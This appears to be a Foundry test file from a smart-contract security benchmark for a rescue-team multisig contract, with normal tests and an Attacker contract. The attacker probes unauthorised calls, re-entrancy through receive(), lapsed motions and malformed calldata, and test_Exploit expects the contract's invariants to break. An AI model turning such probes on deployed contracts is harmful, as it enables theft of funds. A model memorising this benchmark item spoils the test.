// SPDX-License-Identifier: MIT
pragma solidity 0.8.24;

import "./CorrieRescue.sol";

// assay-canary-5c960f00-948f-47a8-b8ff-2af0a69f39db

interface Vm {
    function deal(address who, uint256 amount) external;
    function warp(uint256 time) external;
    function prank(address who) external;
    function prank(address who, address origin) external;
    function expectRevert() external;
    function expectRevert(bytes4 reason) external;
    function expectRevert(bytes calldata reason) external;
}

contract Attacker {
    CorrieRescue internal team;
    bytes32 internal winch;

    constructor(CorrieRescue team_, bytes32 winch_) {
        team = team_;
        winch = winch_;
    }

    receive() external payable {
        _try(abi.encodeCall(team.carryOut, (1)));
    }

    function _try(bytes memory data) internal returns (bool ok) {
        (ok, ) = address(team).call(data);
    }

    function run() external {
        // straight at the roster
        _try(abi.encodeCall(team.welcome, (address(this))));
        _try(abi.encodeCall(team.setQuorum, (0)));
        _try(abi.encodeCall(team.dismiss, (team.leaders()[0])));
        // a motion of one's own, with everything that might second it
        _try(abi.encodeCall(team.move, (address(team), 0, 100_000, abi.encodeCall(team.welcome, (address(this))))));
        uint256 n = 6;
        for (uint256 id = 0; id < n; ++id) {
            _try(abi.encodeCall(team.second, (id)));
            _try(abi.encodeCall(team.thinkAgain, (id)));
            _try(abi.encodeCall(team.carryOut, (id)));
        }
        Stooge stooge = new Stooge(team);
        for (uint256 id = 0; id < n; ++id) {
            stooge.second(id);
            _try(abi.encodeCall(team.carryOut, (id)));
            _try(abi.encodeCall(team.carryOut, (id)));
        }
        // kit and membership
        _try(abi.encodeCall(team.enrol, (address(this), true)));
        _try(abi.encodeCall(team.passOn, (winch, address(this))));
        _try(abi.encodeCall(team.passOn, (winch, address(0))));
        _try(abi.encodeCall(team.signOut, (winch)));
    }

    /// A motion that has lapsed, and ether sent in to be called back.
    function later() external {
        for (uint256 id = 0; id < 6; ++id) {
            _try(abi.encodeCall(team.carryOut, (id)));
        }
        _try(abi.encodePacked(bytes4(keccak256("welcome(address)")), uint96(0), address(team)));
        _try(abi.encodePacked(bytes4(keccak256("carryOut(uint256)")), type(uint256).max));
    }
}

contract Stooge {
    CorrieRescue internal team;

    constructor(CorrieRescue team_) {
        team = team_;
    }

    function second(uint256 id) external {
        (bool ok, ) = address(team).call(abi.encodeCall(team.second, (id)));
        ok;
    }
}

/// Writes down whether it was called with the gas that it needs.
contract Gauge {
    bool public enough;

    fallback() external {
        enough = gasleft() >= 299_000;
    }
}

contract Proof {
    Vm private constant vm = Vm(address(uint160(uint256(keccak256("hevm cheat code")))));
    bytes32 private constant WINCH = "winch";
    bytes32 private constant ROPE = "rope 60 m";

    CorrieRescue private team;
    Attacker private reiver;
    address private constant EILIDH = address(0xE111);
    address private constant RORY = address(0x4041);
    address private constant MHAIRI = address(0x3411);
    address private constant CALUM = address(0xCA1);

    function setUp() public {
        vm.warp(1_761_000_000);
        address[] memory first = new address[](3);
        (first[0], first[1], first[2]) = (EILIDH, RORY, MHAIRI);
        team = new CorrieRescue(first, 2);
        reiver = new Attacker(team, WINCH);
        vm.deal(address(team), 5 ether);
        vm.prank(RORY);
        team.enrol(CALUM, true);
        vm.prank(CALUM);
        team.signOut(WINCH);
        // a proposal of one leader that the others do not like
        vm.prank(MHAIRI);
        team.move(address(team), 0, 100_000, abi.encodeCall(team.welcome, (address(reiver))));
        vm.prank(EILIDH);
        team.move(address(reiver), 1 ether, 0, "");
    }

    function test_Regular() public {
        vm.prank(EILIDH);
        uint256 id = team.move(address(team), 0, 100_000, abi.encodeCall(team.welcome, (CALUM)));
        (bool ok, ) = address(team).call(abi.encodeCall(team.carryOut, (id)));
        require(!ok, "one second");
        vm.prank(RORY);
        team.second(id);
        team.carryOut(id);
        require(team.isLeader(CALUM) && team.leaders().length == 4, "welcomed");
        (ok, ) = address(team).call(abi.encodeCall(team.carryOut, (id)));
        require(!ok, "once");

        vm.prank(CALUM);
        id = team.move(address(0xC0), 2 ether, 0, "");
        vm.prank(MHAIRI);
        team.second(id);
        vm.prank(EILIDH);
        uint256 out = team.move(address(team), 0, 100_000, abi.encodeCall(team.dismiss, (CALUM)));
        vm.prank(RORY);
        team.second(out);
        team.carryOut(out);
        require(!team.isLeader(CALUM) && team.secondsOf(id) == 1, "a former leader");
        (ok, ) = address(team).call(abi.encodeCall(team.carryOut, (id)));
        require(!ok, "too few again");
        vm.prank(EILIDH);
        team.second(id);
        vm.prank(EILIDH);
        team.thinkAgain(id);
        require(team.secondsOf(id) == 1, "thinks again");
        vm.prank(EILIDH);
        team.second(id);
        team.carryOut(id);
        require(address(0xC0).balance == 2 ether, "paid");

        vm.prank(CALUM);
        team.passOn(WINCH, address(0));
        vm.prank(CALUM);
        team.signOut(ROPE);
        vm.prank(EILIDH);
        team.passOn(ROPE, address(0));
        require(team.holderOf(WINCH) == address(0) && team.holderOf(ROPE) == address(0), "in the store");
        vm.prank(MHAIRI);
        id = team.move(address(team), 0, 100_000, abi.encodeCall(team.setQuorum, (3)));
        vm.prank(RORY);
        team.second(id);
        vm.warp(block.timestamp + 21 days + 1);
        (ok, ) = address(team).call(abi.encodeCall(team.carryOut, (id)));
        require(!ok && team.quorum() == 2, "lapsed");

        // whoever carries a motion out gives it the gas that was asked for, however much there is to read
        Gauge gauge = new Gauge();
        vm.prank(EILIDH);
        id = team.move(address(gauge), 0, 300_000, new bytes(10_000));
        vm.prank(RORY);
        team.second(id);
        (ok, ) = address(team).call{gas: 385_000}(abi.encodeCall(team.carryOut, (id)));
        require(!ok, "reading takes a part of it");
        team.carryOut(id);
        require(gauge.enough(), "enough gas");

        vm.prank(MHAIRI);
        id = team.move(address(team), 0, 100_000, abi.encodeCall(team.setQuorum, (3)));
        vm.prank(EILIDH);
        team.second(id);
        team.carryOut(id);
        require(team.quorum() == 3, "a larger quorum");
        vm.prank(address(this), address(this));
        team.writeInBook("fine weather");
        (ok, ) = address(team).call{value: 1 ether}("");
        require(ok && address(team).balance == 4 ether, "a gift");
    }

    /// Whom nobody has elected or enrolled leads nothing and holds nothing, and no single leader decides.
    function inOrder() public view returns (bool) {
        return
            !team.isLeader(address(reiver)) &&
            !team.isMember(address(reiver)) &&
            team.holderOf(WINCH) != address(reiver) &&
            team.quorum() >= 2;
    }

    // What is refused, each from the state after setUp().

    /// The next call is made by who, and reverts for this reason.
    function refuses(address who, bytes4 why) internal {
        vm.prank(who);
        vm.expectRevert(why);
    }

    /// The next call is made by who, and reverts for this reason.
    function refuses(address who, bytes memory why) internal {
        vm.prank(who);
        vm.expectRevert(why);
    }

    /// What leaders, members, the team and people may do, nobody else may.
    function test_RefusesStrangers() public {
        address stranger = address(0xBEE);
        refuses(stranger, CorrieRescue.LeadersOnly.selector);
        team.second(0);
        refuses(stranger, CorrieRescue.LeadersOnly.selector);
        team.move(stranger, 0, 0, "");
        refuses(stranger, CorrieRescue.MembersOnly.selector);
        team.signOut(keccak256("lamp"));
        refuses(stranger, abi.encodeWithSelector(CorrieRescue.KitElsewhere.selector, WINCH, CALUM));
        team.passOn(WINCH, address(0));
        vm.prank(address(new Gauge()), stranger);
        vm.expectRevert(CorrieRescue.PeopleOnly.selector);
        team.writeInBook("fog");
    }

    /// Kit goes from the store to one member, and to members only.
    function test_RefusesKit() public {
        refuses(CALUM, abi.encodeWithSelector(CorrieRescue.KitElsewhere.selector, WINCH, CALUM));
        team.signOut(WINCH);
        refuses(CALUM, CorrieRescue.MembersOnly.selector);
        team.passOn(WINCH, address(0xBEE));
        vm.prank(RORY);
        team.enrol(RORY, true);
        vm.prank(CALUM);
        team.passOn(WINCH, RORY);
        require(team.holderOf(WINCH) == RORY, "to a member");
    }

    /// Motions that are not there, were carried, or fail.
    function test_RefusesMotions() public {
        refuses(MHAIRI, abi.encodeWithSelector(CorrieRescue.NoSuchMotion.selector, 99));
        team.second(99);
        vm.prank(MHAIRI);
        uint256 id = team.move(address(0xC0), 0, 0, "");
        vm.prank(EILIDH);
        team.second(id);
        team.carryOut(id);
        vm.expectRevert(abi.encodeWithSelector(CorrieRescue.AlreadyCarried.selector, id));
        team.carryOut(id);
        vm.prank(MHAIRI);
        id = team.move(address(0xC0), 1_000 ether, 0, "");
        vm.prank(EILIDH);
        team.second(id);
        vm.expectRevert();
        team.carryOut(id);
    }

    /// Leaders are somebody, once, and nine at most; a quorum is two or more of them.
    function test_RefusesLeaders() public {
        address[] memory now_ = team.leaders();
        bytes4 why = CorrieRescue.BadLeader.selector;
        refuses(address(team), abi.encodeWithSelector(why, address(0)));
        team.welcome(address(0));
        refuses(address(team), abi.encodeWithSelector(why, now_[0]));
        team.welcome(now_[0]);
        refuses(address(team), abi.encodeWithSelector(why, address(0xBEE)));
        team.dismiss(address(0xBEE));
        refuses(address(team), abi.encodeWithSelector(CorrieRescue.BadQuorum.selector, 1));
        team.setQuorum(1);
        refuses(address(team), abi.encodeWithSelector(CorrieRescue.BadQuorum.selector, now_.length + 1));
        team.setQuorum(now_.length + 1);
        vm.prank(address(team));
        team.setQuorum(now_.length);
        refuses(address(team), abi.encodeWithSelector(CorrieRescue.BadQuorum.selector, now_.length));
        team.dismiss(now_[0]);
        for (uint160 i = uint160(now_.length); i < 9; ++i) {
            vm.prank(address(team));
            team.welcome(address(0x1000 + i));
        }
        refuses(address(team), abi.encodeWithSelector(why, address(0x2000)));
        team.welcome(address(0x2000));
    }
    /// What the team alone may do stands behind one door.
    function test_RefusesAlike() public {
        vm.prank(MHAIRI);
        (bool welcomes, ) = address(team).call(abi.encodeCall(team.welcome, (address(0xBEE))));
        vm.prank(MHAIRI);
        (bool sets, ) = address(team).call(abi.encodeCall(team.setQuorum, (2)));
        vm.prank(MHAIRI);
        (bool dismisses, ) = address(team).call(abi.encodeCall(team.dismiss, (EILIDH)));
        require(welcomes == sets && sets == dismisses, "one of them is open");
    }

    function exploit() public {
        reiver.run();
        vm.warp(block.timestamp + 22 days);
        reiver.later();
    }

    function test_Exploit() public {
        require(inOrder(), "before");
        exploit();
        require(!inOrder(), "all is in order");
    }

    function target() public view returns (address) {
        return address(team);
    }

    function attacker() public view returns (address) {
        return address(reiver);
    }
}
